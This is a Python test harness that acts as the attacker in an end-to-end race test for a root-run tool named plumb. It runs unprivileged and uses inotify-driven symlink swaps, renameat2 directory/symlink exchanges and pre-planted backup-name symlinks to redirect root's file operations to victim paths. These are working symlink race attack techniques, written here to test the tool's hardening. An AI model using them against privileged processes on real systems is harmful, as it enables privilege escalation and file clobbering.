# The attacker of tests/e2e_race.rs: an unprivileged user racing plumb (running as root) inside
# directories the user owns. It never needs privileges: everything it does is allowed to the
# owner of those directories. Usage: racer.py VICTIM_FILE VICTIM_DIR WATCH_DIR... -- FLIP_PATH...
#
# - Every new entry named .plumb-* or *~ in a watched directory is replaced (rename over) by a
#   symlink to VICTIM_FILE; every new directory by a symlink to VICTIM_DIR (inotify, so it wins
#   the race against a shell reopening the name).
# - Every FLIP_PATH (a directory) is swapped, atomically and over and over, with a symlink to
#   VICTIM_DIR (renameat2 RENAME_EXCHANGE): a path component that is a directory one moment
#   and a symlink the next.
# - Backup names as plumb used to make them (DEST.%Y-%m-%d@%H:%M:%S~) are planted in advance as
#   symlinks to VICTIM_FILE for every watched file named in PLANT (environment, colon-separated).
# It stops (with every flipped path back to a real directory) when /tmp/racer.stop exists.
import ctypes, os, select, struct, sys, threading, time

libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_CREATE, IN_MOVED_TO, IN_ISDIR = 0x100, 0x80, 0x40000000
AT_FDCWD, RENAME_EXCHANGE = -100, 2

args = sys.argv[1:]
victim, victim_dir = args[0], args[1]
sep = args.index("--")
watch_dirs, flips = args[2:sep], args[sep + 1:]
stop = False
swaps = 0


def exchange(a, b):
    return libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) == 0


def flipper():
    for f in flips:
        if not os.path.lexists(f + ".lnk"):
            os.symlink(victim_dir, f + ".lnk")
    while True:
        for f in flips:
            exchange(f, f + ".lnk")
        time.sleep(0.001)
        for f in flips:
            exchange(f, f + ".lnk")
        if stop:
            return
        time.sleep(0.002)


def planter():
    for p in os.environ.get("PLANT", "").split(":"):
        if not p:
            continue
        now = time.time()
        for s in range(-2, 60):
            name = p + "." + time.strftime("%Y-%m-%d@%H:%M:%S", time.localtime(now + s)) + "~"
            try:
                os.symlink(victim, name)
            except OSError:
                pass


def swap(dfd, name, isdir):
    global swaps
    tmp = ".m%d" % swaps
    swaps += 1
    try:
        if os.readlink(name, dir_fd=dfd) in (victim, victim_dir):
            return  # our own symlink, renamed in
    except OSError:
        pass
    try:
        if isdir:
            os.rename(name, ".gone%d" % swaps, src_dir_fd=dfd, dst_dir_fd=dfd)
        os.symlink(victim_dir if isdir else victim, tmp, dir_fd=dfd)
        os.replace(tmp, name, src_dir_fd=dfd, dst_dir_fd=dfd)
    except OSError:
        try:
            os.unlink(tmp, dir_fd=dfd)
        except OSError:
            pass


def main():
    global stop
    fd = libc.inotify_init()
    wds = {}
    for d in watch_dirs:
        wd = libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO)
        if wd < 0:
            sys.exit("cannot watch %s" % d)
        wds[wd] = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
    t = threading.Thread(target=flipper)
    t.start()
    last_plant = 0
    while not os.path.exists("/tmp/racer.stop"):
        if time.time() - last_plant > 20:
            planter()
            last_plant = time.time()
        if not select.select([fd], [], [], 0.1)[0]:
            continue
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            wd, mask, _, n = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16:i + 16 + n].rstrip(b"\0").decode()
            i += 16 + n
            if name.startswith((".m", ".gone")) or name.endswith(".lnk"):
                continue
            isdir = bool(mask & IN_ISDIR)
            if name.startswith(".plumb-") or name.endswith("~") or (
                isdir and os.path.basename(name) not in [os.path.basename(f) for f in flips]
            ):
                swap(wds[wd], name, isdir)
    stop = True
    t.join()
    print("swaps", swaps, flush=True)


with open("/tmp/racer.pid", "w") as f:
    f.write(str(os.getpid()))
main()
